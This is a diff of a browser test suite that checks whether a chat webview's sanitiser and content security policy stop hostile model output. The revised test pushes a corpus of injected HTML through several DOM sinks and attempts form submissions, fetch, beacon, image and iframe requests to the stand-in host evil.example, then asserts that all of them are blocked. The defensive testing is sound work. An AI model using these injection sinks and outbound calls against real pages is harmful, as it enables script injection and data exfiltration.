@@ -1,4 +1,3 @@
-import { build } from 'esbuild';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launchChromium } from '../support/browser';
@@ -81,7 +80,7 @@ describe('hostile output', () => {
       }
       if (way !== 'unfinished') await chat.send({ type: 'outcome', id, outcome: DONE });
     }
-    for (const link of await page.locator('[data-link]').all()) await link.click();
+    for (const link of await page.locator('.markdown [role=link]').all()) await link.click();
     await page.waitForTimeout(300);
 
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
@@ -131,38 +130,43 @@ describe('hostile output', () => {
     await chat.close();
   });
 
-  it('is stopped by the sanitiser alone, should HTML ever get past the renderer', async () => {
-    const chat = await ChatTestPage.open(browser, { ...files, script: await bundleSanitizer() });
-    for (const text of CORPUS) {
-      await chat.page.evaluate((html) => {
-        const { sanitize } = window as unknown as { sanitize: (html: string) => DocumentFragment };
-        document.body.append(sanitize(html));
-      }, text);
-    }
-    await chat.page.waitForTimeout(300);
-    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
-    expect(await chat.page.evaluate(findForbidden)).toEqual([]);
-    expect(chat.strayRequests).toEqual([]);
-    await chat.close();
-  });
-
-  it('is stopped by the content security policy alone, should an element ever get past the sanitiser', async () => {
+  it('is stopped by the content security policy alone, should anything ever make HTML of it', async () => {
     const chat = await ChatTestPage.open(browser, files);
-    await chat.page.evaluate(
-      (corpus) => {
-        for (const html of corpus)
-          document.body.append(document.createRange().createContextualFragment(html));
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/form';
-        document.body.append(form);
-        form.submit();
-        new Image().src = 'https://evil.example/image';
-        fetch('https://evil.example/fetch').catch(() => {});
-        navigator.sendBeacon('https://evil.example/beacon');
-      },
-      CORPUS.filter((text) => !text.includes('http-equiv=refresh')),
-    );
+    const outcome = await chat.page.evaluate((corpus) => {
+      const sinks: ((html: string) => unknown)[] = [
+        (html) => (document.body.innerHTML = html),
+        (html) => document.body.insertAdjacentHTML('beforeend', html),
+        (html) => document.createRange().createContextualFragment(html),
+        (html) => document.write(html),
+        (html) => new DOMParser().parseFromString(html, 'text/html'),
+        (html) => ((document.createElement('script') as HTMLScriptElement).text = html),
+      ];
+      const passed = sinks.flatMap((sink, index) =>
+        corpus
+          .filter((html) => {
+            try {
+              sink(html);
+              return true;
+            } catch (error) {
+              return !(error instanceof TypeError);
+            }
+          })
+          .map((html) => `${index}: ${html}`),
+      );
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/form';
+      document.body.append(form);
+      form.submit();
+      new Image().src = 'https://evil.example/image';
+      fetch('https://evil.example/fetch').catch(() => {});
+      navigator.sendBeacon('https://evil.example/beacon');
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/frame';
+      document.body.append(frame);
+      return passed;
+    }, CORPUS);
     await chat.page.waitForTimeout(500);
+    expect(outcome).toEqual([]);
     expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
     expect(chat.strayRequests.filter((url) => url.includes('evil.example'))).toEqual([]);
     expect(chat.problems.join('\n')).toContain('Content Security Policy');
@@ -202,7 +206,7 @@ describe('hostile output', () => {
     });
     await expect.poll(() => chat.page.locator('.markdown').last().innerText()).toBe('Next');
     const shown = chat.page.locator('.markdown').first();
-    await expect.poll(() => shown.textContent()).toMatch(/deep\s+After it\.\s*$/);
+    await expect.poll(() => shown.textContent()).toMatch(/deep\s*After it\.\s*$/);
     expect(chat.problems).toEqual([]);
     await chat.close();
   });
@@ -239,18 +243,6 @@ describe('hostile output', () => {
   });
 });
 
-/** A page that is nothing but the sanitiser. */
-async function bundleSanitizer(): Promise<string> {
-  const contents = `import { sanitize } from './src/webview/markdown/blockRenderer'; window.sanitize = sanitize;`;
-  const { outputFiles } = await build({
-    stdin: { contents, resolveDir: process.cwd() },
-    bundle: true,
-    write: false,
-    platform: 'browser',
-  });
-  return outputFiles[0]?.text ?? '';
-}
-
 /** Everything on the page that could load, run or lead somewhere, apart from the page's own script and style. */
 function findForbidden(): string[] {
   const own =
@@ -266,8 +258,8 @@ function findForbidden(): string[] {
       .filter(() => !element.matches(own))
       .map(({ name }) => `${element.localName}[${name}]`),
   );
-  const foreign = [...document.querySelectorAll('form, input, math, svg:not(.icon)')].filter(
-    (element) => !element.matches('form.composer'),
-  );
+  const foreign = [
+    ...document.querySelectorAll('form, input, svg:not(.icon, .meter-ring), a, math [href], math style'),
+  ].filter((element) => !element.matches('form.composer'));
   return [...found, ...foreign].map(({ outerHTML }) => outerHTML).concat(attributes);
 }
